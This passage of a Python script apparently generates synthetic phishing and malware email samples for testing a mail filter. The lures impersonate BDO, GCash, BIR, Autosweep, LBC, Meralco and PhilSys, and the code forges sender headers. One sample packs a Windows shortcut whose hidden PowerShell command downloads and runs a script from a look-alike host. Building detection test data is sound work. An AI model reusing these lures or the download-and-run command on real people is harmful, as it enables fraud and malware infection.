def qr_pdf(url: str, lines: list[str], title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (greyscale, Flate)."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale = 4
    matrix = [list(row) for row in qr.matrix]
    border = 4
    size = (len(matrix) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            raw.append(0 if dark else 255)
    image = zlib.compress(bytes(raw), 9)
    content = ["BT", "/F1 12 Tf", "15 TL", "56 780 Td"]
    for line in lines:
        esc = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content.append(f"({esc}) Tj T*")
    content.append("ET")
    content.append(f"q {size} 0 0 {size} 200 330 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (iText 7.2.5 \\(c\\) 2000-2023 iText Group NV) >>".encode())
    return files.pdf_file(objects, len(objects))


def apk(package: str, label: str, seed: str) -> bytes:
    """An inert Android package: manifest (binary XML header), a dex header, resources and signature files."""
    manifest = b"\x03\x00\x08\x00" + _stream(seed + "axml", 60) + package.encode("utf-16-le") + label.encode("utf-16-le")
    dex = b"dex\n035\x00" + _stream(seed + "dex", 104)
    arsc = b"\x02\x00\x0c\x00" + _stream(seed + "arsc", 60)
    mf = ("Manifest-Version: 1.0\r\nBuilt-By: Signflinger\r\nCreated-By: Android Gradle 8.1.0\r\n\r\n").encode()
    return files.zip_archive([
        ("AndroidManifest.xml", manifest),
        ("classes.dex", dex),
        ("resources.arsc", arsc),
        ("res/mipmap-xxhdpi-v4/ic_launcher.png", b"\x89PNG\r\n\x1a\n" + _stream(seed + "png", 40)),
        ("META-INF/MANIFEST.MF", mf),
        ("META-INF/CERT.SF", b"Signature-Version: 1.0\r\nCreated-By: 1.0 (Android)\r\n\r\n"),
        ("META-INF/CERT.RSA", _stream(seed + "rsa", 120)),
    ])


# ---------------------------------------------------------------------------
# HTML templates
# ---------------------------------------------------------------------------

def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def brand_html(color: str, brand: str, heading: str, paras: list[str], button: tuple[str, str] | None = None,
               footer: str = "", lang: str = "en", preheader: str = "", logo: str = "", after: list[str] | None = None,
               title: str = "") -> str:
    """Table-based transactional layout as ESP templates produce it."""
    logo_html = (f'<img src="{logo}" alt="{esc(brand)}" width="140" style="display:block;border:0;height:auto;">'
                 if logo else f'<span style="font-size:22px;font-weight:bold;color:#ffffff;">{esc(brand)}</span>')
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:24px 0;"><tr>'
               f'<td align="center" bgcolor="{color}" style="border-radius:4px;">'
               f'<a href="{button[1]}" target="_blank" style="display:inline-block;padding:12px 28px;font-size:15px;'
               f'color:#ffffff;text-decoration:none;font-weight:bold;">{button[0]}</a></td></tr></table>')
    body = "\n".join(f'<p style="margin:0 0 14px 0;">{p}</p>' for p in paras)
    tail = "\n".join(f'<p style="margin:0 0 14px 0;">{p}</p>' for p in (after or []))
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}</div>' if preheader else "")
    return f"""<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>{title or esc(heading)}</title>
</head>
<body style="margin:0;padding:0;background-color:#f2f4f6;">
{pre}
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f4f6">
<tr><td align="center" style="padding:24px 8px;">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="max-width:600px;background:#ffffff;">
<tr><td bgcolor="{color}" style="padding:18px 28px;">{logo_html}</td></tr>
<tr><td style="padding:28px;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#333333;">
<h2 style="margin:0 0 18px 0;font-size:20px;color:#222222;">{heading}</h2>
{body}
{btn}
{tail}
</td></tr>
<tr><td style="padding:18px 28px;background:#fafafa;font-family:Arial,Helvetica,sans-serif;font-size:11px;line-height:16px;color:#888888;">
{footer}
</td></tr>
</table>
</td></tr>
</table>
</body>
</html>
"""


def kit_html(paras: list[str], lang: str = "en", style: str = "font-family:Tahoma,Arial,sans-serif;font-size:14px;color:#222;") -> str:
    """The plainer markup phishing kits and PHP mailers send."""
    inner = "\n".join(paras)
    return f"""<html lang="{lang}"><head><meta charset="UTF-8"></head>
<body>
<div style="{style}max-width:560px;margin:0 auto;">
{inner}
</div>
</body></html>
"""


def gmail_html(paras: list[str], sig: str = "") -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    if sig:
        inner += f'<div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">{sig}</div></div>'
    return f'<div dir="ltr">{inner}</div>\n'


def outlook_html(paras: list[str], sig: str = "", lang: str = "EN-US", quoted: str = "") -> str:
    ps = "\n".join(
        f'<p class="MsoNormal"><span lang="{lang}">{p if p else "&nbsp;"}<o:p></o:p></span></p>' for p in paras)
    sigh = ""
    if sig:
        sigh = "\n".join(f'<p class="MsoNormal"><span lang="{lang}" style="font-size:10.0pt;color:#1F3864">{s}<o:p></o:p></span></p>'
                         for s in sig.split("\n"))
    return f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
	{{font-family:"Cambria Math";
	panose-1:2 4 5 3 5 4 6 3 2 4;}}
@font-face
	{{font-family:Aptos;}}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{{margin:0in;
	font-size:11.0pt;
	font-family:"Aptos",sans-serif;}}
a:link, span.MsoHyperlink
	{{mso-style-priority:99;
	color:#467886;
	text-decoration:underline;}}
span.EmailStyle17
	{{mso-style-type:personal-compose;
	font-family:"Aptos",sans-serif;
	color:windowtext;}}
.MsoChpDefault
	{{mso-style-type:export-only;
	font-size:11.0pt;}}
@page WordSection1
	{{size:8.5in 11.0in;
	margin:1.0in 1.0in 1.0in 1.0in;}}
div.WordSection1
	{{page:WordSection1;}}
--></style>
</head>
<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">
<div class="WordSection1">
{ps}
<p class="MsoNormal"><span lang="{lang}">&nbsp;<o:p></o:p></span></p>
{sigh}
{quoted}
</div>
</body>
</html>
"""


# ---------------------------------------------------------------------------
# output
# ---------------------------------------------------------------------------

def add(stem: str, folder: str, desc: str, trace: str, headers: str, body) -> None:
    raw = message(trace.strip("\n") + "\n" + headers.strip("\n"), body)
    ENTRIES.append((stem, folder, desc, raw))


def check(stem: str, raw: bytes) -> None:
    for n, line in enumerate(raw.split(b"\n")):
        assert len(line) < 990, f"{stem}: line {n} too long ({len(line)})"
    head = raw.split(b"\n\n", 1)[0]
    head.decode("ascii")  # non-ASCII headers must be encoded
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    assert not msg.defects, f"{stem}: {msg.defects}"
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: missing {name}"
    for name, value in msg.items():
        if name.lower() in ("from", "to", "cc", "reply-to", "subject", "date", "message-id", "sender"):
            assert not value.defects, f"{stem}: header {name} defects {value.defects}"
    assert msg["Date"].datetime is not None
    for part in msg.walk():
        assert not part.defects, f"{stem}: part defects {part.defects}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty text part"


def write_all() -> None:
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [s for s in stems if s.startswith(f"b{N}-phish-")]
    legit = [s for s in stems if s.startswith(f"b{N}-legit-")]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, desc, raw in ENTRIES:
        if stem.startswith(f"b{N}-phish-"):
            assert folder in ("phishing", "malware"), stem
        else:
            assert folder in ("clean", "bulk"), stem
        folder = REFILED.get(stem, folder)
        check(stem, raw)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        assert "\n" not in desc and "|" not in desc
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"blind{N}: " + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())) + f", total={len(ENTRIES)}")


# ---------------------------------------------------------------------------
# small sending-side helpers
# ---------------------------------------------------------------------------

def at(d: datetime, offset: str) -> datetime:
    return d.astimezone(datetime.strptime(offset, "%z").tzinfo)


def gx_received(seed: str, d: datetime) -> str:
    """The X-Received line Gmail's submission server adds on the sending side."""
    return (f"X-Received: by 2002:a05:6512:{hx(seed + 'gx1', 4)}:b0:{hx(seed + 'gx2', 3)}:{hx(seed + 'gx3', 4)}:"
            f"{hx(seed + 'gx4', 4)} with SMTP id {hx(seed + 'gx5', 13)}-{hx(seed + 'gx6', 10)}mr"
            f"{digits(seed + 'gx7', 7)}{alnum(seed + 'gx8', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(digits(seed + 'gx9', 3)) % 400}."
            f"{ts(d)}{digits(seed + 'gxa', 3)};\n        {rfc_la(d)}")


def tindex(seed: str, n: int = 16, lead: str = "db") -> str:
    """An Outlook Thread-Index value (FILETIME prefix then GUID bytes), base64."""
    return base64.b64encode(bytes([1, int(lead, 16)]) + _stream(seed + "ti", n)).decode()


def hop_local(host: str, d: datetime, seed: str, offset: str = "+0000", uid: int = 33) -> str:
    return (f"Received: by {host} (Postfix, from userid {uid})\n\tid {hx(seed + 'pfid', 11, True)}; "
            f"{format_datetime(at(d, offset))}")


def hop_exim(host: str, d: datetime, seed: str, client_ip: str, helo: str, mailfrom: str, rcpt: str,
             offset: str = "+0800", auth: str = "esmtpsa") -> str:
    eid = f"1t{alnum(seed + 'ex1', 4)}-{digits(seed + 'ex2', 8)}{upper_alnum(seed + 'ex3', 3)}-{alnum(seed + 'ex4', 4)}"
    return (f"Received: from [{client_ip}] (port={40000 + int(digits(seed + 'port', 4))} helo={helo})\n"
            f"\tby {host} with {auth}  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.97.1)\n\t(envelope-from <{mailfrom}>)\n\tid {eid}\n\tfor {rcpt};\n"
            f"\t{format_datetime(at(d, offset))}")


def phpmailer_id(seed: str, host: str) -> str:
    return f"<{alnum(seed + 'pmid', 43)}@{host}>"


def gmail_mid(seed: str) -> str:
    return f"<CA{alnum(seed + 'gm', 2, 'BCDEFGHJKLMNOPQRSTUVWXYZ')}{b64s(seed + 'gmid', 44).replace('/', '_').replace('+', '-')}@mail.gmail.com>"


def outlook_mid(seed: str, mbx: str) -> str:
    return f"<{mbx}{hx(seed + 'omid', 26, True)}@{mbx}.apcprd06.prod.outlook.com>"


# ---------------------------------------------------------------------------
# ATTACKS - Philippines
# ---------------------------------------------------------------------------

def ph_bdo_lock() -> None:
    stem = f"b{N}-phish-bdo-otp-lock"
    d = D("2025-02-11 08:47:12 +0800")
    rcpt = "maricel.delosreyes@gmail.com"
    host = "vmi2284571.contaboserver.net"
    a = Auth("alerts@bdoonline-ph.com", "62.171.158.207", host, "bdoonline-ph.com", "pass", [], "none", "NONE",
             "bdoonline-ph.com", stem)
    url = f"https://bdoonline-ph.com/ph/online/verify.php?cid={hx(stem + 'cid', 24)}"
    html = brand_html(
        "#0033a1", "BDO Unibank", "Your BDO Online access has been temporarily locked",
        ["Dear Valued Client,",
         "We noticed a sign-in attempt to your BDO Online Banking account from an unrecognized device:",
         "<b>Device:</b> Android (SM-A155F)<br><b>Location:</b> Cebu City, PH<br><b>Date:</b> February 11, 2025 03:18 AM",
         "As a security measure, access to your BDO Online Banking and BDO Pay accounts has been temporarily "
         "locked. To restore access, please verify your account within <b>24 hours</b>. Accounts not verified "
         "within this period will be permanently deactivated and you will be required to visit your branch of account."],
        ("VERIFY MY ACCOUNT", url),
        "BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas. Deposits are insured by PDIC up to "
        "P1 Million per depositor.<br>This is a system-generated message. Please do not reply.",
        after=["If you did not attempt this sign-in, verify immediately to secure your funds.",
               "Thank you for banking with BDO.<br>BDO Customer Security Team"],
        preheader="Action required: verify your account within 24 hours")
    plain = ("Dear Valued Client,\n\nWe noticed a sign-in attempt to your BDO Online Banking account from an "
             "unrecognized device (Android SM-A155F, Cebu City, PH, February 11, 2025 03:18 AM).\n\nAs a security "
             "measure, access to your BDO Online Banking and BDO Pay accounts has been temporarily locked. Verify "
             f"within 24 hours:\n{url}\n\nThank you for banking with BDO.\nBDO Customer Security Team\n")
    body = Multi("alternative", boundary(stem, "phpmailer"), [qp_plain(plain), qp_html(html)])
    headers = f"""{hop_local(host, d, stem, '+0100')}
To: {rcpt}
Subject: Important: Your BDO Online Banking access has been temporarily locked
From: BDO Unibank <alerts@bdoonline-ph.com>
Reply-To: BDO Unibank <alerts@bdoonline-ph.com>
Date: {format_datetime(at(d, '+0100'))}
Message-ID: {phpmailer_id(stem, 'bdoonline-ph.com')}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "BDO Online Banking account-lock lure from a look-alike domain sent with PHPMailer on a VPS, "
        "linking to a credential and OTP harvesting page", t_gmail(rcpt, d, a, stem), headers, body)


def ph_gcash_taglish() -> None:
    stem = f"b{N}-phish-gcash-verify-taglish"
    d = D("2025-06-03 19:22:40 +0800")
    rcpt = "jerome_bautista88@yahoo.com"
    dom = "stmarkacademy-qc.edu.ph"
    a = Auth(f"registrar@{dom}", "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", "pass",
             [(dom, "google", "pass")], "pass", "NONE", dom, stem)
    url = "https://tinyurl.com/gcash-kyc-ph25"
    paras = [
        "Hi GCash user,", "",
        "Napansin namin na hindi pa <b>fully verified</b> ang GCash account mo. Simula ngayong June 2025, lahat ng "
        "accounts na hindi ma-update ang KYC ay ma-<b>limit</b> ang Send Money, Pay Bills at GSave, alinsunod sa "
        "bagong BSP regulation.", "",
        "Para hindi ma-restrict ang account mo, i-verify lang bago mag <b>11:59 PM ngayong araw</b>:", "",
        f'<a href="{url}">{url}</a>', "",
        "Kailangan lang ng mobile number, MPIN at ang 6-digit authentication code na ipapadala namin via SMS.", "",
        "Salamat sa pagtitiwala sa GCash!", "GCash Help Center",
    ]
    plain = ("Hi GCash user,\n\nNapansin namin na hindi pa fully verified ang GCash account mo. Simula ngayong June 2025, "
             "lahat ng accounts na hindi ma-update ang KYC ay ma-limit ang Send Money, Pay Bills at GSave, alinsunod sa "
             "bagong BSP regulation.\n\nPara hindi ma-restrict ang account mo, i-verify lang bago mag 11:59 PM ngayong "
             f"araw:\n\n{url}\n\nKailangan lang ng mobile number, MPIN at ang 6-digit authentication code na ipapadala "
             "namin via SMS.\n\nSalamat sa pagtitiwala sa GCash!\nGCash Help Center\n")
    body = alt(stem, qp_plain(plain), qp_html(gmail_html(paras)))
    headers = f"""{dkim(dom, 'google', stem, 'mime-version:from:date:message-id:subject:to', d)}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ts(d)}; x=1749554560;
        h=mime-version:from:date:message-id:subject:to;
        bh={hash32(stem + 'xgbh')};
        b={fold(sig256(stem + 'xgb'), 68, '        ')}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
{gx_received(stem, d)}
MIME-Version: 1.0
From: GCash Support <registrar@{dom}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: =?UTF-8?Q?GCash=3A_Kailangan_i=2Dverify_ang_iyong_account_bago_11=3A59_PM?=
To: undisclosed-recipients:;"""
    add(stem, "phishing", "Taglish GCash KYC-limit lure sent from a compromised school Google Workspace mailbox with a "
        "GCash display name, linking through a TinyURL alias to an MPIN and OTP phishing page",
        t_yahoo(rcpt, d, a, stem), headers, body)


def ph_bir_lnk() -> None:
    stem = f"b{N}-phish-bir-deficiency-lnk"
    d = D("2025-04-08 10:14:55 +0800")
    rcpt = "accounting@sunrisefreight.com.ph"
    dom = "birgov-ph.org"
    host = "server217.web-hosting.com"
    a = Auth(f"noreply@{dom}", "198.54.116.92", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    ref = "LOA-2025-00-0481927"
    lnk = files.lnk_shortcut(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-w hidden -nop -c \"iwr -useb https://bir-efps-portal.org/cdn/update.ps1 | iex\"")
    z = files.zip_archive([("LOA_2025_0481927.pdf.lnk", lnk)])
    html = kit_html([
        '<p style="font-weight:bold;">REPUBLIC OF THE PHILIPPINES<br>DEPARTMENT OF FINANCE<br>BUREAU OF INTERNAL REVENUE</p>',
        f"<p>Letter of Authority No. <b>{ref}</b></p>",
        "<p>To the Taxpayer:</p>",
        "<p>This is to inform you that your company has been selected for examination of books of accounts and "
        "other accounting records for taxable year 2023 pursuant to Revenue Memorandum Order (RMO) No. 44-2024. "
        "Preliminary findings indicate a <b>deficiency income tax and VAT assessment</b> amounting to "
        "<b>PHP 1,482,306.18</b> inclusive of surcharge and interest.</p>",
        "<p>Please review the attached Letter of Authority and Preliminary Assessment Notice (PAN) and submit "
        "your reply within fifteen (15) days from receipt hereof. Failure to respond shall result in the issuance "
        "of a Final Assessment Notice (FAN).</p>",
        "<p>The document is compressed for security. Please open using a Windows computer.</p>",
        "<p>Very truly yours,<br><br>REVENUE DISTRICT OFFICER<br>RDO No. 39 - South Quezon City</p>",
        '<p style="font-size:11px;color:#777;">This is a system-generated e-mail from the BIR eLOA System. Do not reply.</p>',
    ])
    body = Multi("mixed", boundary(stem, "phpmailer"), [
        qp_html(html),
        attachment("application/zip", "LOA_2025_0481927.zip", z),
    ])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Reply-To:Sender', d)}
{hop_exim(host, d, stem, '127.0.0.1', host, f'noreply@{dom}', rcpt, '-0400', 'esmtpa')}
Date: {format_datetime(at(d, '-0400'))}
To: {rcpt}
From: Bureau of Internal Revenue <noreply@{dom}>
Reply-To: rdo39.assessment@{dom}
Subject: Letter of Authority No. {ref} - Tax Deficiency Assessment (Preliminary Assessment Notice)
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - {host}
X-AntiAbuse: Original Domain - sunrisefreight.com.ph
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - {dom}
MIME-Version: 1.0"""
    add(stem, "malware", "BIR Letter of Authority and deficiency-assessment lure from a look-alike government domain "
        "carrying a zip with a PDF-named Windows shortcut that launches PowerShell to fetch a payload",
        t_m365(rcpt, d, a, stem, ctry="US"), headers, body)


def ph_autosweep() -> None:
    stem = f"b{N}-phish-autosweep-rfid"
    d = D("2025-03-12 07:31:06 +0800")
    rcpt = "ramon.a.castillo@gmail.com"
    dom = "autosweeprfid-ph.top"
    uid = digits(stem + "uid", 8)
    mf = f"bounces+{uid}-{hx(stem + 'b', 4)}-ramon.a.castillo=gmail.com@em8817.{dom}"
    a = Auth(mf, "149.72.123.94", f"o1.ptr2771.{dom}", f"o1.ptr2771.{dom}", "pass",
             [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "none", "NONE", dom, stem)
    target = f"https://{dom}/ph/account/topup?ref=AS{digits(stem + 'ref', 9)}"
    click = f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64s(stem + 'upn', 120).replace('/', '-').replace('+', '_')}"
    html = brand_html(
        "#e30613", "Autosweep RFID", "Insufficient Load Balance - Account Suspension Notice",
        ["Dear Autosweep RFID Subscriber,",
         "Our records show that your Autosweep RFID account linked to plate number ending in <b>**3K</b> has an "
         "outstanding toll balance of <b>&#8369;386.00</b> from passages at SLEX and STAR Tollway.",
         "To avoid suspension of your RFID sticker and a penalty of <b>&#8369;1,000.00</b> under the toll regulatory "
         "rules, please settle your balance on or before <b>14 March 2025</b>.",
         "Paki-settle na po agad para tuloy-tuloy ang inyong biyahe."],
        ("Settle Balance Now", click),
        "San Miguel Corporation - Autosweep RFID Customer Service<br>This is an automated email. Please do not reply.",
        logo=f"https://{dom}/assets/autosweep-logo.png")
    html = html.replace("</body>", f'<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64s(stem + "open", 80).replace("/", "-").replace("+", "_")}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">\n</body>')
    plain = ("Dear Autosweep RFID Subscriber,\n\nYour Autosweep RFID account has an outstanding toll balance of "
             "PHP 386.00. Settle on or before 14 March 2025 to avoid suspension and a PHP 1,000.00 penalty:\n"
             f"{target}\n\nAutosweep RFID Customer Service\n")
    body = Multi("alternative", boundary(stem, "sendgrid"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 's1', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
{dkim('sendgrid.info', 'smtpapi', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
Received: by filterdrecv-6b8f5d6f4c-k2xqv with SMTP id filterdrecv-6b8f5d6f4c-k2xqv-1-67D0C8EA-1B
        {rfc_utc(d)}
Received: from {uid} (unknown)
	by geopod-ismtpd-22 (SG) with HTTP
	id {alnum(stem + 'sgid', 22)}
	{format_datetime(at(d, '+0000')).replace('+0000', '(UTC)')}
Content-Type: multipart/alternative; boundary={boundary(stem, 'sendgrid')}
Date: {format_datetime(at(d, '+0000'))}
From: Autosweep RFID <billing@{dom}>
Mime-Version: 1.0
Message-ID: <{alnum(stem + 'mid', 22)}@geopod-ismtpd-22>
Subject: Autosweep RFID: Insufficient Load - Account Suspension on 14 March 2025
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64s(stem + 'eid', 140)}
X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BhGYXo7pIwNFVxPyHVvmuX6kH1j+2x9zR0oqfV
To: {rcpt}"""
    # the Content-Type above is duplicated by the MIME renderer; drop ours
    headers = "\n".join(line for line in headers.split("\n") if not line.startswith("Content-Type:"))
    add(stem, "phishing", "Autosweep RFID unpaid-toll suspension lure sent through a SendGrid account on a look-alike "
        ".top domain, with SendGrid click tracking wrapping a payment and card-harvesting page",
        t_gmail(rcpt, d, a, stem), headers, body)


def ph_lbc() -> None:
    stem = f"b{N}-phish-lbc-redelivery"
    d = D("2024-11-19 14:05:21 +0800")
    rcpt = "joanna.pascual@outlook.com"
    dom = "lbcexpress-ph.info"
    host = "shop.kapekulturacafe.com"
    a = Auth(f"www-data@{host}", "103.15.226.88", host, host, "pass", [], "none", "NONE", dom, stem)
    trk = "17" + digits(stem + "trk", 10)
    url = f"https://{dom}/track/redeliver?awb={trk}&c=PH"
    html = kit_html([
        '<div style="background:#e2001a;padding:14px;color:#fff;font-size:20px;font-weight:bold;">LBC Express</div>',
        "<p>Dear Customer,</p>",
        f"<p>Your package with tracking number <b>{trk}</b> arrived at our Pasay hub but <b>could not be delivered</b> "
        "because the address provided is incomplete (missing barangay / street number).</p>",
        "<p>To schedule a redelivery, kindly update your address and pay the redelivery fee of <b>&#8369;49.00</b> "
        "within 48 hours. Unclaimed items will be returned to sender.</p>",
        f'<p style="text-align:center;"><a href="{url}" style="background:#e2001a;color:#fff;padding:12px 26px;'
        'text-decoration:none;border-radius:3px;">Update Address &amp; Reschedule</a></p>',
        "<p>Thank you for choosing LBC. <i>We like to move it, move it!</i></p>",
        '<p style="font-size:11px;color:#888;">&copy; 2024 LBC Express, Inc. All rights reserved.</p>',
    ])
    body = qp_html(html)
    headers = f"""Received: by {host} (Postfix, from userid 33)
	id {hx(stem + 'q', 10, True)}; {format_datetime(at(d, '+0800'))}
To: {rcpt}
Subject: Your LBC package {trk} is on hold - action required
From: "LBC Express" <notification@{dom}>
Content-type: text/html; charset=UTF-8
Message-Id: <20241119060521.{hx(stem + 'q', 10, True)}@{host}>
Date: {format_datetime(at(d, '+0800'))}"""
    headers = "\n".join(line for line in headers.split("\n") if not line.startswith("Content-type:"))
    add(stem, "phishing", "LBC Express failed-delivery redelivery-fee lure sent with PHP mail() from a compromised cafe "
        "website, From a look-alike domain and linking to a card-harvesting page",
        t_m365(rcpt, d, a, stem, ctry="PH", consumer=True, region="apcprd03"), headers, body)


def ph_meralco_qr() -> None:
    stem = f"b{N}-phish-meralco-qr"
    d = D("2025-08-21 09:02:33 +0800")
    rcpt = "admin@lakesidebakeshop.ph"
    dom = "meralco-ebill.support"
    host = f"mail.{dom}"
    a = Auth(f"billing@{dom}", "45.77.36.142", host, host, "pass", [(dom, "mail", "pass")], "pass", "NONE", dom, stem)
    acct = f"0412{digits(stem + 'acct', 6)}"
    url = f"https://{dom}/pay/?acct={acct}&src=qr"
    qr = files.qr_png(url)
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;color:#222;">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ddd;">
<tr><td style="background:#ff6600;padding:16px;color:#fff;font-size:22px;font-weight:bold;">MERALCO</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:20px;">
<p><b>FINAL NOTICE OF DISCONNECTION</b></p>
<p>Customer Account No.: <b>{acct[:4]}-{acct[4:7]}-{acct[7:]}</b><br>Service Address: on file<br>
Amount Due: <b>&#8369;18,742.60</b> (July and August 2025 billing)</p>
<p>Our records show that your electricity bill remains unpaid despite previous reminders. Your service is
scheduled for <b>disconnection on 22 August 2025</b> unless payment is received.</p>
<p>For faster posting, scan the QR code below using your phone camera and pay via GCash, Maya or any bank app:</p>
<p style="text-align:center;"><img src="cid:qr-{hx(stem, 8)}" width="220" height="220" alt="Scan to pay"></p>
<p>Payments made through other channels may take 3-5 banking days to post and will not stop the scheduled disconnection.</p>
<p>Thank you,<br>Meralco Credit and Collection</p>
</td></tr></table></body></html>
"""
    body = Multi("related", boundary(stem + "rel", "outlook2"), [
        qp_html(html),
        attachment("image/png", "pay.png", qr, inline=True, cid=f"qr-{hx(stem, 8)}"),
    ])
    headers = f"""{dkim(dom, 'mail', stem, 'Date:From:To:Subject:From', d, c='simple/simple')}
Received: from localhost (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '+0000'))}
From: Meralco <billing@{dom}>
To: {rcpt}
Subject: FINAL NOTICE: Service Disconnection Scheduled - Account No. {acct[:4]}-XXX-{acct[-2:]}
Message-ID: <{hx(stem + 'mid', 16)}.{digits(stem + 'm2', 10)}@{dom}>
X-Priority: 1 (Highest)
Importance: High
MIME-Version: 1.0"""
    add(stem, "phishing", "Meralco final disconnection notice from a look-alike domain whose only call to action is an "
        "inline QR code leading to a payment-phishing page (quishing)", t_m365(rcpt, d, a, stem, ctry="JP"), headers, body)


def ph_philsys_sites() -> None:
    stem = f"b{N}-phish-philsys-sites"
    d = D("2025-01-22 11:40:18 +0800")
    rcpt = "kristine.mae.ocampo@gmail.com"
    sender = "philsys.registryoffice2025@gmail.com"
    a = Auth(sender, "209.85.220.73", "mail-sor-f73.google.com", "mail-sor-f73.google.com", "pass",
             [("gmail.com", "20230601", "pass")], "pass", "NONE", "gmail.com", stem)
    url = "https://sites.google.com/view/ephilid-download-portal/home"
    paras = [
        "Magandang araw po!", "",
        "Your <b>ePhilID</b> (digital version of the Philippine Identification Card) is now available for download. "
        "Based on our records, your physical PhilID card delivery through PHLPost was unsuccessful.", "",
        "To download and print your ePhilID, please access the official PhilSys download portal below and confirm "
        "your PhilSys Card Number (PCN) and registered mobile number:", "",
        f'<a href="{url}">{url}</a>', "",
        "Note: A one-time PIN (OTP) will be sent to your mobile. The ePhilID is valid for all government and private "
        "transactions under PSA Memorandum Order No. 2023-08.", "",
        "Deadline of download: <b>January 31, 2025</b>", "",
        "Philippine Statistics Authority", "PhilSys Registry Office",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") if not p.startswith("<a") else url for p in paras) + "\n"
    body = alt(stem, qp_plain(plain), qp_html(gmail_html(paras)))
    headers = f"""{dkim('gmail.com', '20230601', stem, 'to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to', d, i='')}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ts(d)}; x={ts(d) + 604800};
        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
        bh={hash32(stem + 'xgbh')};
        b={fold(sig256(stem + 'xgb'), 68, '        ')}
